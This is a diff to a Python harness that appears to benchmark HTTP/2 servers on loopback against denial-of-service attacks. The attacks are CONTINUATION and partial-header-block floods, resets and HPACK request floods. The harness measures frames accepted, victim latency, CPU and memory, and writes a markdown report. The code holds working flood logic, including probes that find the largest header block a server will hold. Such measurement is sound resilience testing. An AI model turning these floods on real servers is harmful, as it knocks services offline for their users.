@@ -37,7 +37,6 @@ import statistics
 import struct
 import subprocess
 import sys
-import termios
 import time
 from collections import Counter
 
@@ -122,10 +121,14 @@ def status_of(block):
     return None
 
 
-def outq(sock):
-    """Bytes in the socket's send queue the peer has not acknowledged (SIOCOUTQ)."""
+SIOCOUTQNSD = 0x894B
+
+
+def unsent(sock):
+    """Bytes in the socket's send queue not sent yet (SIOCOUTQNSD; over loopback, what is sent
+    has arrived: unlike SIOCOUTQ this does not wait for a delayed ACK)."""
     try:
-        buf = fcntl.ioctl(sock.fileno(), termios.TIOCOUTQ, b"\0\0\0\0")
+        buf = fcntl.ioctl(sock.fileno(), SIOCOUTQNSD, b"\0\0\0\0")
         return struct.unpack("i", buf)[0]
     except OSError:
         return 0
@@ -273,6 +276,7 @@ class Kind:
         get = get_block(port)
         pre = []
         self.requests = False
+        self.in_block = kind == "empty-cont"
         units = None
         if kind == "reset-headers":
             pre.append(frame(HEADERS, END_HEADERS, 1, get))
@@ -340,15 +344,45 @@ class Kind:
 SETUP = PREFACE + settings((4, 1 << 20)) + window_update(0, 1 << 30)
 
 
+async def handshake(r, w, timeout=5.0):
+    """Preface and SETTINGS, then the server's SETTINGS acknowledged before anything else is
+    sent (an acknowledgement later could land inside a header block)."""
+    w.write(SETUP)
+    deadline = time.monotonic() + timeout
+    while True:
+        left = max(0.001, deadline - time.monotonic())
+        head = await asyncio.wait_for(r.readexactly(9), left)
+        n = int.from_bytes(head[:3], "big")
+        payload = await asyncio.wait_for(r.readexactly(n), left) if n else b""
+        if head[3] == SETTINGS and not head[4] & ACK:
+            w.write(frame(SETTINGS, ACK, 0))
+            return
+        if head[3] == GOAWAY:
+            raise ConnectionError("GOAWAY " + reason(int.from_bytes(payload[4:8], "big")))
+
+
+def server_rx_queue(server_port, client_port):
+    """Bytes the server has not read yet from the connection of `client_port` (its socket's
+    receive queue in /proc/net/tcp), or None once that socket is gone."""
+    local, remote = f"0100007F:{server_port:04X}", f"0100007F:{client_port:04X}"
+    with open("/proc/net/tcp") as f:
+        for line in f:
+            parts = line.split()
+            if len(parts) > 4 and parts[1] == local and parts[2] == remote and parts[3] in ("01", "08"):
+                return int(parts[4].split(":")[1], 16)
+    return None
+
+
 class Peer:
     """Reads a server's frames for an attacking connection: answers SETTINGS and PING, gives
     back connection window, counts responses, and notes GOAWAY, EOF or reset."""
 
-    def __init__(self, r, w, on_end):
+    def __init__(self, r, w, on_end, quiet=False):
         self.r, self.w, self.on_end = r, w, on_end
+        # Nothing is written (a frame in the middle of a header block is a protocol error).
+        self.quiet = quiet
         self.responses = 0
         self.rst = 0
-        self.ping_acks = {}
         self.progress = asyncio.Event()
 
     async def run(self):
@@ -379,20 +413,17 @@ class Peer:
                     elif typ == RST_STREAM:
                         self.rst += 1
                     elif typ == SETTINGS:
-                        if not flags & ACK:
+                        if not flags & ACK and not self.quiet:
                             w.write(frame(SETTINGS, ACK, 0))
                     elif typ == PING:
-                        opaque = buf[pos + 9:pos + 17]
-                        if flags & ACK:
-                            self.ping_acks[opaque] = time.monotonic()
-                        else:
-                            w.write(frame(PING, ACK, 0, opaque))
+                        if not flags & ACK and not self.quiet:
+                            w.write(frame(PING, ACK, 0, buf[pos + 9:pos + 17]))
                     elif typ == GOAWAY:
                         code = int.from_bytes(buf[pos + 13:pos + 17], "big")
                         self.on_end("GOAWAY " + reason(code))
                     pos += 9 + ln
                 buf = buf[pos:]
-                if data_owed > (8 << 20):
+                if data_owed > (8 << 20) and not self.quiet:
                     w.write(window_update(0, data_owed))
                     data_owed = 0
                 self.progress.set()
@@ -410,11 +441,15 @@ async def attack_conn(a, stop_at, t_start, record):
     rec = {"opened_s": round(time.monotonic() - t_start, 3), "end": None, "end_s": None,
            "frames_written": 0}
     record.append(rec)
+    w = None
     try:
         r, w = await asyncio.wait_for(asyncio.open_connection(HOST, a.port), 5)
-    except (OSError, asyncio.TimeoutError) as e:
-        rec["end"] = "connect failed (" + type(e).__name__ + ")"
-        rec["end_s"] = rec["opened_s"]
+        await handshake(r, w)
+    except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError) as e:
+        rec["end"] = "handshake failed (" + (str(e) if isinstance(e, ConnectionError) and str(e) else type(e).__name__) + ")"
+        rec["end_s"] = round(time.monotonic() - t_start, 3)
+        if w is not None:
+            abort(w)
         await asyncio.sleep(0.05)
         return
     ended = asyncio.Event()
@@ -425,8 +460,8 @@ async def attack_conn(a, stop_at, t_start, record):
             rec["end_s"] = round(time.monotonic() - t_start, 3)
         ended.set()
 
-    peer = Peer(r, w, end)
-    w.write(SETUP + kind.prelude)
+    peer = Peer(r, w, end, quiet=kind.in_block)
+    w.write(kind.prelude)
     sent = kind.prelude_frames
     rt = asyncio.ensure_future(peer.run())
     try:
@@ -498,19 +533,25 @@ def cmd_attack(a):
 
 
 async def probe(port, kind_name, max_frames, max_secs):
-    """How many attack frames the server takes before it ends the connection, to within a
-    batch: frames go in batches, each followed by a PING, and a batch counts once its PING is
-    acknowledged (every frame before the PING was read and accepted). Batches of 100 frames up
-    to 10,000, then 1,000 up to 100,000, then 10,000 (hpack: 100 requests always, below the
-    concurrent-stream limits); about 300 PINGs for a million frames."""
+    """How many attack frames the server reads and accepts before it ends the connection, to
+    within a batch: frames go in batches, and a batch counts once the server's socket has no
+    unread byte left (/proc/net/tcp) and no GOAWAY or close followed within 2 ms. Batches of
+    100 frames up to 10,000, then 1,000 up to 100,000, then 10,000 (hpack: 100 requests
+    always, under the concurrent-stream limits)."""
     kind = Kind(kind_name, port)
     t0 = time.monotonic()
     res = {"kind": kind_name, "end": None, "acked": 0, "sent": 0, "secs": None}
+    w = None
     try:
         r, w = await asyncio.wait_for(asyncio.open_connection(HOST, port), 5)
-    except (OSError, asyncio.TimeoutError) as e:
-        res["end"] = "connect failed (" + type(e).__name__ + ")"
+        await handshake(r, w)
+    except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError) as e:
+        res["end"] = "handshake failed (" + type(e).__name__ + ")"
+        if w is not None:
+            abort(w)
         return res
+    sock = w.get_extra_info("socket")
+    cport = sock.getsockname()[1]
     ended = asyncio.Event()
 
     def end(what):
@@ -519,35 +560,37 @@ async def probe(port, kind_name, max_frames, max_secs):
             res["secs"] = round(time.monotonic() - t0, 3)
         ended.set()
 
-    peer = Peer(r, w, end)
+    peer = Peer(r, w, end, quiet=kind.in_block)
     rt = asyncio.ensure_future(peer.run())
-    w.write(SETUP + kind.prelude)
-    seq = 0
+    w.write(kind.prelude)
     deadline = t0 + max_secs
     try:
         while not ended.is_set() and res["sent"] < max_frames and time.monotonic() < deadline:
             sent = res["sent"]
             b = 100 if (sent < 10000 or kind.requests) else 1000 if sent < 100000 else 10000
-            seq += 1
-            opaque = seq.to_bytes(8, "big")
-            w.write(kind.take(b) + frame(PING, 0, 0, opaque))
+            w.write(kind.take(b))
             res["sent"] += b
             await w.drain()
-            while opaque not in peer.ping_acks and not ended.is_set():
-                peer.progress.clear()
-                left = deadline - time.monotonic()
-                if left <= 0:
-                    break
-                try:
-                    await asyncio.wait_for(peer.progress.wait(), left)
-                except asyncio.TimeoutError:
-                    break
-            if opaque in peer.ping_acks:
-                res["acked"] = res["sent"]
-        if ended.is_set():
-            pass
-        else:
-            await asyncio.sleep(0.05)  # a GOAWAY right behind the last acknowledgement
+            read = False
+            while not ended.is_set() and time.monotonic() < deadline:
+                if w.transport.get_write_buffer_size() == 0 and unsent(sock) == 0:
+                    q = server_rx_queue(port, cport)
+                    if q is None:  # the server closed: its GOAWAY or EOF is on the way
+                        try:
+                            await asyncio.wait_for(ended.wait(), 0.2)
+                        except asyncio.TimeoutError:
+                            end("closed (socket gone)")
+                        break
+                    if q == 0 and (not kind.requests or peer.responses >= res["sent"]):
+                        read = True
+                        break
+                await asyncio.sleep(0.0005)
+            if read:
+                await asyncio.sleep(0.002)
+                if not ended.is_set():
+                    res["acked"] = res["sent"]
+        if not ended.is_set():
+            await asyncio.sleep(0.05)  # a GOAWAY right behind the last batch
     except (ConnectionError, OSError) as e:
         end("reset (" + type(e).__name__ + ", writing)")
     if res["secs"] is None:
@@ -605,16 +648,21 @@ def cmd_scenario(a):
 
 # ---------------------------------------------------------------- partial header blocks
 def partial_block_frames(port, block_size):
-    """HEADERS (no END_HEADERS) + CONTINUATIONs (none with END_HEADERS): a block of block_size."""
+    """HEADERS (no END_HEADERS) + CONTINUATIONs (none with END_HEADERS) carrying a header block
+    of exactly `block_size` bytes: the GET's fields, then 1,000-byte literal fields."""
     first = get_block(port)
     fields = bytearray()
     i = 0
-    while len(first) + len(fields) < block_size:
+    while True:
         room = block_size - len(first) - len(fields)
-        value_len = min(1000, room - 12)
-        if value_len < 1:
+        if room < 16:
             break
-        fields += hp_literal(b"x-fill-%03d" % (i % 1000), b"a" * value_len)
+        v = min(1000, room - 15)
+        field = hp_literal(b"x-fill-%03d" % (i % 1000), b"a" * v)
+        while len(field) > room:
+            v -= 1
+            field = hp_literal(b"x-fill-%03d" % (i % 1000), b"a" * v)
+        fields += field
         i += 1
     frames = [frame(HEADERS, END_STREAM, 1, first)]
     for at in range(0, len(fields), 16384):
@@ -622,7 +670,51 @@ def partial_block_frames(port, block_size):
     return b"".join(frames), len(first) + len(fields)
 
 
-async def hold_partial(name, port, pids, conns, block_size, cap, parallel):
+async def keeps_partial(port, size, wait=0.3):
+    """Whether the server keeps (for `wait` s) a connection that sent a partial block of `size`."""
+    data, _ = partial_block_frames(port, size)
+    r, w = await asyncio.wait_for(asyncio.open_connection(HOST, port), 5)
+    try:
+        w.write(PREFACE + settings() + data)
+        deadline = time.monotonic() + wait
+        while True:
+            left = deadline - time.monotonic()
+            if left <= 0:
+                return True
+            try:
+                head = await asyncio.wait_for(r.readexactly(9), left)
+            except asyncio.TimeoutError:
+                return True
+            n = int.from_bytes(head[:3], "big")
+            if n:
+                await r.readexactly(n)
+            if head[3] in (GOAWAY, RST_STREAM, HEADERS):
+                return False
+    except (asyncio.IncompleteReadError, ConnectionError, OSError):
+        return False
+    finally:
+        abort(w)
+
+
+async def largest_kept_block(port, limit):
+    """The largest partial header block (a multiple of 1 KiB, at most `limit`) the server keeps."""
+    if await keeps_partial(port, limit):
+        return limit
+    lo, hi = 0, limit // 1024  # lo KiB kept (0: none), hi KiB not kept
+    while hi - lo > 1:
+        mid = (lo + hi) // 2
+        if await keeps_partial(port, mid * 1024):
+            lo = mid
+        else:
+            hi = mid
+    return lo * 1024
+
+
+async def hold_partial(name, port, pids, conns, block_limit, cap, parallel):
+    block_size = await largest_kept_block(port, block_limit)
+    if block_size == 0:
+        return {"server": name, "conns": conns, "block_limit": block_limit, "block_bytes": 0,
+                "established": 0, "note": "no partial block of 1 KiB or more is kept"}
     data, size = partial_block_frames(port, block_size)
     msg = PREFACE + settings() + data
     rss0 = proc_status_kib(pids, "RssAnon")
@@ -690,7 +782,8 @@ async def hold_partial(name, port, pids, conns, block_size, cap, parallel):
             c["task"].cancel()
     await asyncio.sleep(0.5)
     rss2 = proc_status_kib(pids, "RssAnon")
-    return {"server": name, "conns": conns, "block_bytes": size, "established": len(held),
+    return {"server": name, "conns": conns, "block_limit": block_limit, "block_bytes": size,
+            "established": len(held),
             "failures": dict(failures), "setup_s": round(setup_s, 2),
             "open_after_1s": open_now,
             "rss_before_kib": rss0, "rss_held_kib": rss1, "rss_after_kib": rss2,
@@ -881,56 +974,63 @@ def cmd_report(a):
     if att:
         out.append("### Attacks: victim latency (fresh h2c connection + one GET every "
                    f"{a.interval * 1000:.0f} ms), unattacked vs attacked\n")
-        out.append("| scenario | server | attackers | victim p50 unatt. → att. (ratio) "
-                   "| victim p99 unatt. → att. (ratio) | victim failures | server CPU % "
-                   "| attacker connections: ended / opened | first close | how closed "
-                   "| frames sent before close (median; min–max) | responses to attackers |")
-        out.append("|---|---|--:|---|---|--:|--:|--:|---|---|---|--:|")
+        out.append("| scenario | server | victim p50 unattacked → attacked (ratio) "
+                   "| victim p99 unattacked → attacked (ratio) | victim failures | server CPU % "
+                   "| attack connections closed / opened (first close) | how closed "
+                   "| frames taken before close (probe) | attack requests answered |")
+        out.append("|---|---|---|---|--:|--:|---|---|---|--:|")
         for r in att:
-            u, v, k = r["unattacked"], r["attacked"], r["attack"]
+            u, v, k, pr = r["unattacked"], r["attacked"], r["attack"], r.get("probe") or {}
             fails = sum(v["errors"].values())
             errs = ", ".join(f"{e}: {n}" for e, n in v["errors"].items())
             ends = ", ".join(f"{e} ×{n}" for e, n in sorted(k["ends"].items(), key=lambda kv: -kv[1]))
             if not ends:
-                ends = "never (open when the attack stopped)"
+                ends = "never: open when the attack stopped"
             elif k["open_at_end"]:
                 ends += f"; {k['open_at_end']} open at the end"
-            fb = "n/a"
-            if k["frames_before_end_median"] is not None:
-                fb = (f"{k['frames_before_end_median']:,.0f} "
-                      f"({k['frames_before_end_min']:,}–{k['frames_before_end_max']:,})")
-            if k["open_at_end"]:
-                fb += f"; {k['frames_sent_open']:,} sent on connections never closed"
-            first = "—" if k["first_end_s"] is None else f"{k['first_end_s']:.2f} s"
+            first = "" if k["first_end_s"] is None else f" (first at {k['first_end_s']:.2f} s)"
+            if pr.get("end"):
+                probe = f"{pr['acked']:,}–{pr['sent']:,}, then {pr['end']}"
+            elif pr:
+                probe = f"> {pr['acked']:,} in {pr['secs']:.1f} s, not closed"
+            else:
+                probe = "n/a"
             dead = "" if r.get("server_alive", True) else " **(server died)**"
             out.append(
-                f"| {r['scenario']} | {r['server']}{dead} | {r['conns']} | "
+                f"| {r['scenario']} ({r['conns']} conns) | {r['server']}{dead} | "
                 f"{fmt_ms(u['p50_ms'])} → {fmt_ms(v['p50_ms'])} ms ({ratio(v['p50_ms'], u['p50_ms'])}) | "
                 f"{fmt_ms(u['p99_ms'])} → {fmt_ms(v['p99_ms'])} ms ({ratio(v['p99_ms'], u['p99_ms'])}) | "
                 f"{fails}/{v['samples']}{' (' + errs + ')' if errs else ''} | {r['cpu_pct']:.0f} | "
-                f"{k['connections_ended']} / {k['connections_opened']} | {first} | {ends} | {fb} | "
+                f"{k['connections_ended']} / {k['connections_opened']}{first} | {ends} | {probe} | "
                 f"{k['responses']:,} |")
         out.append("")
-        out.append("Ratios > 1: the attack slows the victim down. Failures count as the timeout in "
-                   "the percentiles. CPU % of one core, during the attack (issuerd: the process; "
-                   "nginx: master + worker). Attackers reconnect at once when closed; \"frames "
-                   "sent before close\" counts frames the kernel had delivered to the server's "
-                   "socket when the GOAWAY or close arrived (an upper bound of what the server "
-                   "read).")
+        out.append("Ratios > 1: the attack slows the victim down; failures count as the 5 s timeout "
+                   "in the percentiles. Server CPU: % of one core during the attack (issuerd: the "
+                   "process; nginx: master + worker). Attackers reconnect at once when closed. "
+                   "\"Frames taken before close\": one more connection sends the attack frames in "
+                   "batches (100 up to 10,000, 1,000 up to 100,000, then 10,000; hpack: 100 "
+                   "requests) and counts a batch once the server has read all of it "
+                   "(/proc/net/tcp receive queue empty) and not closed 2 ms later, for at most "
+                   "1,000,000 frames or 3 s.")
         out.append("")
     part = [r for r in rows if r.get("scenario") == "partial"]
     if part:
         out.append("### Memory: connections holding a partial header block\n")
-        out.append("| server | connections | block | RssAnon held (Δ) | per connection "
-                   "| kept: median / max | still open at cap | how they ended | header timeout "
-                   "| RssAnon after close |")
+        out.append("| server | connections | block held (largest kept, ≤ limit) | RssAnon held (Δ) "
+                   "| per connection | kept: median / max | still open at cap | how they ended "
+                   "| header timeout | RssAnon after close |")
         out.append("|---|--:|--:|--:|--:|---|--:|---|---|--:|")
         for r in part:
+            if not r.get("established"):
+                out.append(f"| {r['server']} | 0/{r['conns']} | none (limit {r['block_limit']:,} B): "
+                           f"{r.get('note', '')} | | | | | | | |")
+                continue
             ends = ", ".join(f"{e} ×{n}" for e, n in sorted(r["ends"].items(), key=lambda kv: -kv[1]))
             kept = "n/a" if r["kept_median_s"] is None else f"{r['kept_median_s']} s / {r['kept_max_s']} s"
             dead = "" if r.get("server_alive", True) else " **(server died)**"
             out.append(
-                f"| {r['server']}{dead} | {r['established']}/{r['conns']} | {r['block_bytes']:,} B | "
+                f"| {r['server']}{dead} | {r['established']}/{r['conns']} | "
+                f"{r['block_bytes']:,} B (limit {r['block_limit']:,}) | "
                 f"{(r['rss_held_kib'] - r['rss_before_kib']) / 1024:.1f} MiB | "
                 f"{r['kib_per_conn']:.1f} KiB | {kept} | {r['still_open_at_cap']} (cap {r['cap_s']:.0f} s) | "
                 f"{ends} | {r.get('header_timeout', '')} | {r['rss_after_kib'] / 1024:.1f} MiB |")
@@ -998,7 +1098,7 @@ def main():
     p.add_argument("--timeout", type=float, default=5.0)
     p.add_argument("--no-reconnect", dest="reconnect", action="store_false")
     p.add_argument("--probe-frames", type=int, default=1000000)
-    p.add_argument("--probe-secs", type=float, default=2.0)
+    p.add_argument("--probe-secs", type=float, default=3.0)
     p.set_defaults(fn=cmd_scenario)
 
     p = sub.add_parser("probe")
